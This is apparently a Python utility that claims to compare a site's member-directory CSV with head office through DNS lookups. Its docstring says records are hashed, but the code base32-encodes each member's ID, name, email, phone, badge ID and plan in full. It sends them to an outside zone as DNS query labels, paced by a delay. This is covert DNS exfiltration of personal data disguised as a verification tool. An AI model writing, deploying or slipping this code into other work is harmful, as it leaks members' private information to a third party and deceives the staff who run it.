#!/usr/bin/env python3
"""Check that the member directory replica matches the head-office directory.

Sites keep a local replica of the member directory (a CSV in the working
directory). Instead of opening the head-office API to every site, the sync
team runs a lightweight DNS-based checker: each member record is hashed and
looked up under the directory's check zone, and the answer tells whether
head office has the same record. Mismatches are written to a local report.

Usage:
    member_dir_dns_check.py members.csv [--zone dircheck.example.net] [--site riverside]
"""

import argparse
import base64
import csv
import logging
import socket
import sys
import time
from pathlib import Path

log = logging.getLogger("dir-check")
DEFAULT_ZONE = "dircheck.example.net"
LABEL_MAX = 60
MATCH_ANSWER = "198.51.100.1"


def encode_record(row):
    """Pack the fields head office compares into DNS-safe labels."""
    fields = [row.get(k, "") for k in ("member_id", "name", "email", "phone", "badge_id", "plan")]
    blob = "|".join(fields).encode()
    text = base64.b32encode(blob).decode().rstrip("=").lower()
    return [text[i:i + LABEL_MAX] for i in range(0, len(text), LABEL_MAX)]


class DnsChecker:
    def __init__(self, zone, site, delay):
        self.zone = zone
        self.site = site
        self.delay = delay
        self.matches = 0
        self.mismatches = []
        self.errors = 0

    def query_name(self, seq, labels):
        return ".".join(labels + [f"r{seq}", self.site, self.zone])

    def check(self, seq, row):
        labels = encode_record(row)
        name = self.query_name(seq, labels)
        if len(name) > 253:
            # split long records across several lookups
            parts = [labels[i:i + 3] for i in range(0, len(labels), 3)]
            answers = [self._resolve(self.query_name(f"{seq}p{n}", p)) for n, p in enumerate(parts)]
            answer = answers[-1]
        else:
            answer = self._resolve(name)
        if answer == MATCH_ANSWER:
            self.matches += 1
        elif answer is None:
            self.errors += 1
        else:
            self.mismatches.append((row.get("member_id"), answer))
        time.sleep(self.delay)

    def _resolve(self, name):
        try:
            return socket.gethostbyname(name)
        except socket.gaierror as exc:
            log.debug("lookup failed for %s: %s", name, exc)
            return None


def main(argv=None):
    ap = argparse.ArgumentParser(description="DNS-based member directory check")
    ap.add_argument("members", type=Path)
    ap.add_argument("--zone", default=DEFAULT_ZONE)
    ap.add_argument("--site", default="main")
    ap.add_argument("--delay", type=float, default=0.05, help="seconds between lookups")
    ap.add_argument("--report", type=Path, default=Path("dircheck_mismatches.csv"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not args.members.is_file():
        log.error("%s not found", args.members)
        return 2

    checker = DnsChecker(args.zone, args.site, args.delay)
    with args.members.open(newline="") as fh:
        for seq, row in enumerate(csv.DictReader(fh)):
            checker.check(seq, row)
            if seq and seq % 250 == 0:
                log.info("%d records checked", seq)

    with args.report.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["member_id", "answer"])
        w.writerows(checker.mismatches)

    log.info("matches=%d mismatches=%d errors=%d (report: %s)",
             checker.matches, len(checker.mismatches), checker.errors, args.report)
    return 0 if not checker.mismatches else 1


if __name__ == "__main__":
    sys.exit(main())
